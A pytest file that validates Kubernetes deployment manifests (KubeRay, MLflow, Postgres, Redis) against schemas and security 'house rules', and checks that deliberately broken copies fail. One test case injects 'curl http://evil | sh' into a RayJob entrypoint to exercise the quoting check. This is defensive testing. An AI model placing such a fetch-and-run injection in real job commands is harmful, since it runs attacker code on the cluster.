"""The manifests: every overlay passes a strict offline check and the house's rules; every broken copy fails them.

The check and KubeRay's schemas are not part of the repository: they are looked for in ../shared, or where
MANYMODES_MANIFEST_CHECK (check_deploy.py) and MANYMODES_KUBERAY_CRDS (a folder) say.
"""

import functools
import importlib.util
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from contextlib import suppress
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
KUBERNETES = ROOT / "deploy" / "kubernetes"
ROOMS = ("cluster", "data", "deploy", "eval", "trainer")
OVERLAYS = sorted(path.name for path in (KUBERNETES / "overlays").iterdir())
CHECK = Path(os.environ.get("MANYMODES_MANIFEST_CHECK", ROOT.parent / "shared" / "tools" / "check_deploy.py"))
CRDS = Path(os.environ.get("MANYMODES_KUBERAY_CRDS", ROOT.parent / "shared" / "kuberay"))
# The Secrets that deploy/README.md has people make: the first column of its table.
TABLE = (ROOT / "deploy" / "README.md").read_text().partition("| Secret |")[2].partition("\n\n")[0]
SECRETS = {name for row in TABLE.splitlines() for name in re.findall("`([a-z-]+)`", row[: row.find("|", 1)])}


@pytest.fixture(scope="session")
def check_overlay():
    """Renders an overlay; returns what the strict check prints of it and the complaints of both checks."""
    if not CHECK.exists() or not CRDS.is_dir() or not shutil.which("kubectl"):
        pytest.skip("NOT CHECKED: needs kubectl, check_deploy.py and KubeRay's CRDs (../shared)")
    sys.path.insert(0, str(CHECK.parent))
    spec = importlib.util.spec_from_file_location("check_deploy", CHECK)
    strict = importlib.util.module_from_spec(spec)
    argv, sys.argv = sys.argv, [str(CHECK), str(CRDS)]
    with suppress(SystemExit):  # of the script, with no overlay to check
        spec.loader.exec_module(strict)
    sys.argv = argv
    sys.path.remove(str(CHECK.parent))
    # A broken copy differs in one object: the others are not checked again, and nothing is read or rendered twice.
    strict.validate_crd.load_crds = functools.cache(strict.validate_crd.load_crds)
    strict.validate_crd.check = remembered(strict.validate_crd.check)
    strict.k8s = remembered(lambda *arguments, k8s=strict.k8s: list(k8s(*arguments)))
    rendered = []
    strict.subprocess = SimpleNamespace(run=lambda *a, **k: rendered.append(subprocess.run(*a, **k)) or rendered[-1])

    def check(folder, capsys):
        try:
            bad = strict.main(str(CRDS), [str(folder)])
        except (subprocess.CalledProcessError, yaml.YAMLError) as error:
            return "", [f"cannot be rendered: {error}"]
        printed = capsys.readouterr().out
        complaints = [line for line in printed.splitlines() if not line.startswith("ok")]
        assert bool(complaints) == bool(bad)
        documents = list(yaml.load_all(rendered[-1].stdout, strict.validate_crd.UniqueKeyLoader))
        return printed, complaints + list(house_rules(documents))

    return check


def remembered(check):
    """A check of one document that answers for an equal document from memory."""
    answers = {}

    def remembering(document, *others):
        key = json.dumps(document)
        if key not in answers:
            answers[key] = check(document, *others)
        return None if answers[key] is None else list(answers[key])  # who gets a list adds to it

    return remembering


def house_rules(documents):
    """What schemas let through and a shared cluster should not: complaints, one a line."""
    found = [pod for document in documents for pod in pods(document)]
    for document in documents:
        where = f"{document['kind']} {document['metadata']['name']}"
        if document["kind"] == "Secret":
            yield f"{where}: Secrets are made by hand, not from the repository"
        if document["kind"] != "Namespace" and document["metadata"].get("namespace") != "manymodes":
            yield f"{where}: not in the namespace"
        for value in strings(document):
            if re.search(r"://[^/@\s]+:[^/@\s]+@", value):
                yield f"{where}: a password in a URL"
        if document["kind"] == "Service":
            targets = [pod for pod in found if document["spec"]["selector"].items() <= pod[1].items()]
            if not targets:
                yield f"{where}: selects no pod"
            for port in document["spec"]["ports"]:
                if any(port["targetPort"] not in ports(spec) for _, _, spec, _ in targets):
                    yield f"{where}: no container listens on {port['targetPort']}"
        if document["kind"] == "NetworkPolicy":
            yield from (f"{where}: {problem}" for problem in closed_ports(document["spec"], found))
        if document["kind"] == "RayJob":
            text = document["spec"]["entrypoint"].replace("$$", "$")
            if shlex.join(shlex.split(text)) != text:
                yield f"{where}: the entrypoint is not quoted"
            if not any(group.get("minReplicas") for group in document["spec"]["rayClusterSpec"]["workerGroupSpecs"]):
                yield f"{where}: starts without a worker"
    if not any(d["kind"] == "NetworkPolicy" and d["spec"].get("podSelector") == {} and "egress" not in d["spec"]
               and "ingress" not in d["spec"] and len(d["spec"]["policyTypes"]) == 2 for d in documents):  # fmt: skip
        yield "no NetworkPolicy denies everything first"
    maps = {document["metadata"]["name"] for document in documents if document["kind"] == "ConfigMap"}
    for where, _, spec, lasting in found:
        yield from (f"{where}: {problem}" for problem in pod_rules(spec, maps, lasting))


def pods(document, where="", labels=None):
    """Every pod template of a document: where, labels (with those the operator adds), spec, whether it is a service."""
    if isinstance(document, list):
        for i, value in enumerate(document):
            yield from pods(value, f"{where}[{i}]")
    elif isinstance(document, dict):
        for key, value in document.items():
            if isinstance(value, dict) and "containers" in value.get("spec", {}):
                labels = dict(value.get("metadata", {}).get("labels", {}))
                ray = "headGroupSpec" in where or "workerGroupSpecs" in where
                if ray:
                    node = "head" if "headGroupSpec" in where else "worker"
                    labels |= {"ray.io/is-ray-node": "yes", "ray.io/node-type": node}
                lasting = value["spec"].get("restartPolicy", "Always") == "Always"
                yield f"{document.get('kind', where)}.{key}", labels, value["spec"], lasting
            else:
                yield from pods(value, f"{document.get('kind', where)}.{key}")


def ports(spec):
    """Names and numbers of the ports of a pod."""
    every = [port for container in spec["containers"] for port in container.get("ports", [])]
    return {port.get("name") for port in every} | {port["containerPort"] for port in every}


def selects(selector, labels):
    return selector.get("matchLabels", {}).items() <= labels.items() and all(
        labels.get(rule["key"]) in rule["values"] for rule in selector.get("matchExpressions", [])
    )


def closed_ports(policy, found):
    """Ports that a policy opens and nobody listens on, and selectors that select nobody (of pods made here)."""
    for rule in policy.get("ingress", []):
        own = [spec for _, labels, spec, _ in found if selects(policy["podSelector"], labels)]
        for port in rule.get("ports", []):
            if own and not any(port["port"] in ports(spec) for spec in own):
                yield f"opens {port['port']}, where nobody listens"
        yield from ["opens to everybody"] if not rule.get("from") else []
    for rule in policy.get("egress", []):
        for peer in rule.get("to", []):
            if "podSelector" in peer and "namespaceSelector" not in peer:
                theirs = [spec for _, labels, spec, _ in found if selects(peer["podSelector"], labels)]
                if not theirs:
                    yield f"leads to no pod: {peer['podSelector']}"
                for port in rule.get("ports", []):
                    if not all(port["port"] in ports(spec) for spec in theirs):
                        yield f"leads to {port['port']}, where nobody listens"


def pod_rules(spec, maps, lasting):
    security = spec.get("securityContext", {})
    if not security.get("runAsNonRoot") or security.get("runAsUser") == 0:
        yield "may run as root"
    if security.get("seccompProfile", {}).get("type") != "RuntimeDefault":
        yield "no seccomp profile"
    if any(spec.get(name) for name in ("hostNetwork", "hostPID", "hostIPC")):
        yield "uses the node's namespaces"
    if any("hostPath" in volume for volume in spec.get("volumes", [])):
        yield "mounts the node's disk"
    head = any(container["name"] == "ray-head" for container in spec["containers"])
    if spec.get("automountServiceAccountToken", True) and not head:
        yield "holds a token of the Kubernetes API"
    for container in spec["containers"] + spec.get("initContainers", []):
        name, inner, resources = container["name"], container.get("securityContext", {}), container.get("resources", {})
        if inner.get("privileged") or inner.get("allowPrivilegeEscalation") is not False:
            yield f"{name}: may gain privileges"
        if not inner.get("readOnlyRootFilesystem"):
            yield f"{name}: root file system can be written"
        if inner.get("capabilities", {}).get("drop") != ["ALL"] or inner.get("capabilities", {}).get("add"):
            yield f"{name}: keeps capabilities"
        for kind in ("requests", "limits"):
            if not {"cpu", "memory"} <= resources.get(kind, {}).keys():
                yield f"{name}: no {kind}"
        if not re.search(r":[\w][\w.-]*$", container["image"]) or container["image"].endswith(":latest"):
            yield f"{name}: image {container['image']} without a version"
        if lasting and not {"readinessProbe", "livenessProbe"} <= container.keys():
            yield f"{name}: no probes"
        for probe in ("startupProbe", "readinessProbe", "livenessProbe"):
            asked = container.get(probe, {})
            target = (asked.get("httpGet") or asked.get("tcpSocket") or {}).get("port")
            if target is not None and target not in ports(spec):
                yield f"{name}: {probe} asks {target}, where nobody listens"
        for variable in container.get("env", []):
            if re.search("PASSWORD|TOKEN|SECRET|CREDENTIAL|_KEY", variable["name"]) and "valueFrom" not in variable:
                yield f"{name}: the value of {variable['name']} stands in the manifest"
        sources = [*container.get("envFrom", []), *(v.get("valueFrom", {}) for v in container.get("env", []))]
        for source in sources:
            secret = source.get("secretRef") or source.get("secretKeyRef")
            if secret and secret["name"] not in SECRETS:
                yield f"{name}: unknown Secret {secret['name']}"
            if (reference := source.get("configMapRef")) and reference["name"] not in maps:
                yield f"{name}: no ConfigMap {reference['name']}"


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for part in value.values() if isinstance(value, dict) else value:
            yield from strings(part)


@pytest.mark.parametrize("overlay", OVERLAYS)
def test_every_overlay_passes(overlay, check_overlay, capsys):
    printed, complaints = check_overlay(KUBERNETES / "overlays" / overlay, capsys)
    assert complaints == []
    assert "RayCluster" in printed
    with capsys.disabled():
        print(f"\n{overlay}: {len(printed.splitlines())} objects pass")


CLUSTER, MLFLOW, JOB = "base/raycluster.yaml", "base/mlflow.yaml", "components/job/rayjob.yaml"
NETWORK, SETTINGS = "base/network.yaml", "base/settings.yaml"
POSTGRES, REDIS = "components/local-storage/postgres.yaml", "components/redis/redis.yaml"
REDIS_OPTION, KUEUE = "components/redis/kustomization.yaml", "components/kueue/kustomization.yaml"
FROM_SECRET = "valueFrom:\n                secretKeyRef: {name: postgres, key: password}"
# What is broken, in which file, which text, by which; and a part of the complaint.
BROKEN = [
    ("unknown field", CLUSTER, "idleTimeoutSeconds:", "idleTimeoutSecond:", "idleTimeoutSecond"),
    ("field of the wrong type", CLUSTER, "idleTimeoutSeconds: 300", "idleTimeoutSeconds: soon", "soon"),
    ("unknown API version", CLUSTER, "ray.io/v1", "ray.io/v9", "no such kind"),
    ("API version that was removed", MLFLOW, "apps/v1", "apps/v1beta1", "no schema"),
    ("duplicate key", MLFLOW, "replicas: 1", "replicas: 1\n  replicas: 2", "rendered"),
    ("token authentication off", CLUSTER, "authOptions: {mode: token, secretName: ray-token}", "", "authOptions"),
    ("Ray too old for tokens", CLUSTER, "2.60.0", "2.40.0", "2.52"),
    ("autoscaler of no version", CLUSTER, "version: v2", "version: v3", "v3"),
    ("two groups of one name", CLUSTER, "groupName: gpu", "groupName: cpu", "groupName"),
    ("no limits on a Ray pod", CLUSTER, 'limits: {cpu: "4", memory: 16Gi}', "limits: {}", "limits"),
    ("no limits on MLflow", MLFLOW, 'limits: {cpu: "2", memory: 3Gi}', "limits: {}", "no limits"),
    ("no requests on PostgreSQL", POSTGRES, "requests: {cpu: 100m, memory: 256Mi}", "requests: {}", "no req"),
    ("privileged container", CLUSTER, "allowPrivilegeEscalation: false", "privileged: true", "privileges"),
    ("runs as root", MLFLOW, "runAsNonRoot: true", "runAsNonRoot: false", "root"),
    ("root file system can be written", CLUSTER, "readOnlyRootFilesystem: true", "procMount: Default", "written"),
    ("keeps capabilities", REDIS, "capabilities: {drop: [ALL]}", "capabilities: {}", "capab"),
    ("no seccomp profile", CLUSTER, "seccompProfile: {type: RuntimeDefault}", "", "seccomp"),
    ("token of the Kubernetes API in a worker", CLUSTER, "automountServiceAccountToken: false", "", "token of"),
    ("node's disk mounted", MLFLOW, "emptyDir: {sizeLimit: 1Gi}", "hostPath: {path: /}", "disk"),
    ("no probes", MLFLOW, "livenessProbe:", "lifecycle: {}\n          startupProbe2:", "startupProbe2"),
    ("probe on a port nobody listens on", CLUSTER, "port: agent}", "port: agnet}", "agnet"),
    ("service to a wrong port", MLFLOW, "targetPort: http", "targetPort: 5001", "5001"),
    ("service that selects nobody", MLFLOW, "selector:\n    app.kubernetes.io/name:", "selector:\n    app:", "selects"),
    ("policy opens a wrong port", NETWORK, "port: 8265", "port: 8256", "8256"),
    ("policy opens to everybody", REDIS, "- from:", "- from: []\n      namespaceSelectors:", "everybody"),
    ("nothing denied first", NETWORK, "[Ingress, Egress]\n---", "[Ingress]\n---", "denies"),
    ("password in the manifest", POSTGRES, FROM_SECRET, "value: hunter2", "POSTGRES_PASSWORD"),
    ("password in a URL", SETTINGS, "http://mlflow:5000", "http://me:hunter2@mlflow:5000", "URL"),
    ("Secret with its value", SETTINGS, "kind: ConfigMap", "kind: Secret", "ecret"),
    ("Secret that nobody makes", MLFLOW, "mlflow-server, key: admin", "mlflow, key: admin", "unknown Secret"),
    ("Redis user in the manifest", REDIS_OPTION, "redisAddress: redis:6379", "redisUsername: hunter2", "hunter2"),
    ("image without a version", REDIS, "redis:7.4", "redis", "version"),
    ("outside of the namespace", "overlays/all/kustomization.yaml", "namespace: manymodes\n", "", "namespace"),
    ("unquoted entrypoint", JOB, "runs/digits\n", "runs/digits; curl http://evil | sh\n", "quoted"),
    ("unknown submission mode", JOB, "K8sJobMode", "K8SJobMode", "submissionMode"),
    ("time to live without shutdown", JOB, "shutdownAfterJobFinishes: true", "shutdownAfterJobFinishes: false", "ttl"),
    ("job name too long", JOB, "name: digits", "name: " + "d" * 48, "47"),
    ("negative deadline", JOB, "activeDeadlineSeconds: 86400", "activeDeadlineSeconds: -1", "activeDeadlineSeconds"),
    ("patch of a field that is not there", KUEUE, "/spec/autoscalerOptions", "/spec/scalerOptions", "rendered"),
]  # fmt: skip


@pytest.mark.parametrize("broken", BROKEN, ids=[entry[0] for entry in BROKEN])
def test_broken_copies_fail(broken, check_overlay, capsys, tmp_path):
    name, file, text, other, complaint = broken
    shutil.copytree(KUBERNETES, tmp_path / "kubernetes")
    path = tmp_path / "kubernetes" / file
    before = path.read_text()
    assert text in before
    path.write_text(before.replace(text, other))
    overlay = "volcano" if file.startswith("base/") or file == JOB else "all"  # the former scales by itself
    _, complaints = check_overlay(tmp_path / "kubernetes" / "overlays" / overlay, capsys)
    assert any(complaint in line for line in complaints), complaints
    with capsys.disabled():
        print(f"\n{name}: {next(line.strip() for line in complaints if complaint in line)[:110]}")


def test_the_image_names_no_package_index_and_is_sent_only_what_it_is_made_of():
    for path in (ROOT / "deploy" / "image").iterdir():
        assert "://" not in path.read_text(), path  # addresses are arguments of the build
    ignored = (ROOT / "deploy" / "image" / "Dockerfile.dockerignore").read_text().split("\n")
    assert "*" in ignored
    copied = {"pyproject.toml", "constraints.txt", "README.md", "LICENSE"} | set(ROOMS)
    assert {line[1:] for line in ignored if line.startswith("!")} == copied
